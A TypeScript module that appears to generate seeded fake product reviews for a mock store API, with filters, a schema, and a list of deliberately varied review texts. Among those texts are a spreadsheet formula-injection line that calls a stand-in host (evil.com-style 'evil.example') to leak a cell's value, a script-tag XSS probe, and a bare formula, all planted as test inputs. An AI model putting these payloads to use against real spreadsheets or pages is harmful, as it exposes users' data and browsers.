import { createdAt, pick, roll, sequence } from '../random.ts';
import { idOf } from '../storage/ids.ts';
import { CATALOGUE, type CatalogueProduct, IMAGE_HOST } from './catalogue.ts';
import { inventPerson } from './people.ts';
import { objectOf, type SeededList, TEXT_SCHEMA, TIMESTAMP_SCHEMA } from './seeded-list.ts';

/**
 * Texts as strangers write them: several languages and scripts, separators, quotes, line breaks, emojis, markup,
 * and text that a spreadsheet would run as a formula. They are used in turn, so a dozen and a half reviews show all.
 */
export const REVIEW_TEXTS: readonly string[] = [
  'Exactly as described, arrived in two days.',
  'Très satisfaite, la couleur est plus belle en vrai !',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click for a refund")',
  'منتج رائع، التغليف ممتاز والتوصيل سريع',
  'She said "it\'s fine", I say: not bad, not great; would buy again, maybe.',
  '-2 stars for the box, the mug itself is lovely',
  'First week: perfect.\nSecond week: the handle came off.\r\n\r\nSupport replied within an hour, though.',
  'Love it 😍🔥 10/10 👩🏽‍🍳',
  'Gute Qualität, aber „groß“ fällt klein aus – lieber eine Nummer größer.',
  "+1 from me, my sister's kids fight over it",
  '¿Calidad? Buenísima. ¿Envío? Regular…',
  '@work everyone asked where I got this',
  'ok',
  '<b>Great</b> & cheap <script>alert(1)</script>',
  '=1+1',
  '包装很好,物流也快。',
  '  spaces before and after, and a\ttab  ',
  'Reçu cassé. Remboursé sans discuter, merci; 5 étoiles pour le service',
];

/** Salts of the facts that lists are filtered by. */
const PRODUCT = 1;
const RATING = 2;
const PUBLISHED = 3;

/** Shops are mostly liked. */
const RATINGS = [1, 2, 3, 4, 4, 4, 5, 5, 5, 5];

function productAt(seed: number, position: number): CatalogueProduct {
  return pick(CATALOGUE, roll(seed, position, PRODUCT));
}

function ratingAt(seed: number, position: number): number {
  return pick(RATINGS, roll(seed, position, RATING));
}

function isPublished(seed: number, position: number): boolean {
  return roll(seed, position, PUBLISHED) < 0.85;
}

/** Each review is a function of the seed and its position, so that a million cost nothing until they are read. */
export const reviewList: SeededList = {
  endpoints: [
    {
      path: '/api/reviews/search',
      operationId: 'listReviews',
      summary: 'List reviews',
      description: 'API document, GET /api/reviews/search.',
    },
  ],
  defaultLimit: 10,
  filters: [
    {
      name: 'product',
      alias: 'product._id',
      type: 'text',
      description: 'Filter by product id. The sandbox accepts `product._id` as another name for it.',
      admits:
        ({ seed }, id) =>
        (position) =>
          productAt(seed, position)._id === id,
    },
    {
      name: 'rating',
      type: 'integer',
      description: 'Filter by rating',
      admits:
        ({ seed }, rating) =>
        (position) =>
          ratingAt(seed, position) === rating,
    },
    {
      name: 'published',
      type: 'boolean',
      description: 'Filter by published status',
      admits:
        ({ seed }, published) =>
        (position) =>
          isPublished(seed, position) === published,
    },
  ],
  item: 'Review',
  schemas: {
    Review: objectOf(
      {
        _id: TEXT_SCHEMA,
        storeId: TEXT_SCHEMA,
        product: objectOf({ _id: TEXT_SCHEMA, name: TEXT_SCHEMA, image: TEXT_SCHEMA }),
        customer: objectOf({ _id: TEXT_SCHEMA, firstname: TEXT_SCHEMA, lastname: TEXT_SCHEMA }),
        content: TEXT_SCHEMA,
        images: { type: 'array', description: 'URLs', items: TEXT_SCHEMA },
        rating: { type: 'integer' },
        published: { type: 'boolean' },
        createdAt: TIMESTAMP_SCHEMA,
      },
      'API document, Review.',
    ),
  },
  textAt({ storeId, seed, count }, position) {
    const random = sequence(seed + Math.imul(position + 1, 0x9e3779b1));
    const product = productAt(seed, position);
    const visitor = Math.floor(random() * 5000);
    const person = inventPerson(sequence(seed + visitor));
    const photos = random() < 0.7 ? 0 : 1 + Math.floor(random() * 3);
    return JSON.stringify({
      _id: idOf('reviews', position),
      storeId,
      product: { _id: product._id, name: product.name, image: `${IMAGE_HOST}/products/${product._id}.jpg` },
      customer: {
        _id: idOf('visitors', visitor),
        firstname: person.firstname,
        lastname: person.lastname,
      },
      content: REVIEW_TEXTS[(position + Math.abs(seed)) % REVIEW_TEXTS.length],
      images: Array.from(
        { length: photos },
        (_, index) => `${IMAGE_HOST}/reviews/${position}-${index + 1}.jpg?w=800,h=600`,
      ),
      rating: ratingAt(seed, position),
      published: isPublished(seed, position),
      createdAt: createdAt(position, count, random()),
    });
  },
};
